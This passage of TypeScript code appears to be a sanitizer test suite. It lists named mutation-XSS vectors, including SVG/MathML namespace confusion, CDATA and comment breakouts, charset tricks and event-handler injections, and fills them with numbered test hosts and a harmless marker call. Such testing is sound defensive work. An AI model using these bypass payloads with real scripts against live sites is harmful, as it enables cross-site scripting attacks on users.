  'desc with HTML': '<svg><desc><img src="{url}" onerror="{run}"></desc></svg>',
  'annotation-xml turns HTML':
    '<math><annotation-xml encoding="text/html"><style><img src="</style><img src={url} onerror={run}>"></style></annotation-xml></math>',
  'annotation-xml with svg':
    '<math><annotation-xml encoding="application/xhtml+xml"><svg><style><img src={url}></style></svg></annotation-xml></math>',
  'foreignObject with style':
    '<svg><foreignObject><style><img title="</style><img src={url} onerror={run}>"></style></foreignObject></svg>',
  'CDATA in svg': '<svg><![CDATA[><img src="{url}" onerror="{run}">]]></svg>',
  'CDATA in HTML': '<![CDATA[><img src="{url}" onerror="{run}">]]>',
  'comment closed early': '<!--><img src="{url}" onerror="{run}">-->',
  'comment closed by --!>': '<!-- --!><img src="{url}" onerror="{run}"> -->',
  'comment opened in an attribute': '<p title="<!--"><img src="{url}" title="-->">',
  'bogus comment': '<!x><img src="{url}"><?x><img src="{url}"></ x><img src="{url}">',
  'template in svg': '<svg><template><img src="{url}"></template></svg>',
  'template in a template': '<template><template><img src="{url}"></template></template>',
  'template with content moved by a table':
    '<table><template><tr><td><img src="{url}" onerror="{run}"></template></table>',
  'deep nesting': `${'<div>'.repeat(520)}<svg><style><img src="</style><img src={url} onerror={run}>">`,
  'deep nesting of math and forms': `${'<form><math><mtext>'.repeat(40)}<img src="{url}" onerror="{run}">`,
  'attributes with a closing tag': '<p title="</p><script>{run}</script>"><img alt="><img src={url}>">',
  'quote in a tag name': '<p"><img src="{url}" onerror="{run}">',
  'less-than in an attribute name': '<p <img src="{url}" onerror="{run}">',
  'overlong UTF-7': '+ADw-script+AD4-{run}+ADw-/script+AD4-<meta charset="utf-7"><img src="{url}">',
  'meta charset of a stateful coding':
    '<meta charset="iso-2022-jp"><img alt="\u001b$B" src="{url}" title="\u001b(B onerror={run}">',
  'patch elements': '<template for="x"><img src="{url}"></template><?start name="x"><?end>',
  'pre with a lost line feed': '<pre>\n\n<img src="{url}"></pre>',
  'body in the middle': '<p>x</p><body background="{url}" onload="{run}"><html onclick="{run}">',
  'class of our own fold':
    '<details class="yanshu-quote" open ontoggle="{run}"><summary>x</summary><img src="{url}"></details>',
  'attribute of our own for the original':
    '<img data-yanshu-src="{url}" src="{url}"><a data-yanshu-href="javascript:{run}" href="#">x</a>',
}

/** Every way we know, with a host of its own; the position in the list is its number. */
export function vectorsFor(domain: string): Vector[] {
  const named = [
    IMAGES,
    MEDIA,
    FRAMES,
    LINKS,
    META_AND_FORMS,
    BACKGROUNDS,
    SHEETS,
    SVG_AND_MATH,
    SCRIPTS,
    ADDRESSES,
    MUTATIONS,
  ]
    .flatMap((texts) => Object.entries(texts))
    .concat(Object.entries(DECLARATIONS).flatMap(inBothPlaces))
  return named.map(([name, text], id) => ({ name, html: filled(text, id, domain) }))
}

function inBothPlaces([name, declaration]: [string, string]): [string, string][] {
  const inSheet = declaration.replaceAll('&quot;', '"')
  const inAttribute = declaration.replaceAll('"', '&quot;')
  return [
    [`style attribute: ${name}`, `<p title="x" style="${inAttribute}">x</p>`],
    [`style sheet: ${name}`, `<style>p{${inSheet}}</style><p title="x">x</p>`],
  ]
}

function filled(text: string, id: number, domain: string): string {
  const host = `v${id}.${domain}`
  return text
    .replaceAll('{url}', `http://${host}/x`)
    .replaceAll('{secure}', `https://${host}/x`)
    .replaceAll('{rest}', `//${host}/x`)
    .replaceAll('{host}', host)
    .replaceAll('{run}', `top.ran.push(${id})`)
    .replaceAll('{id}', String(id))
}
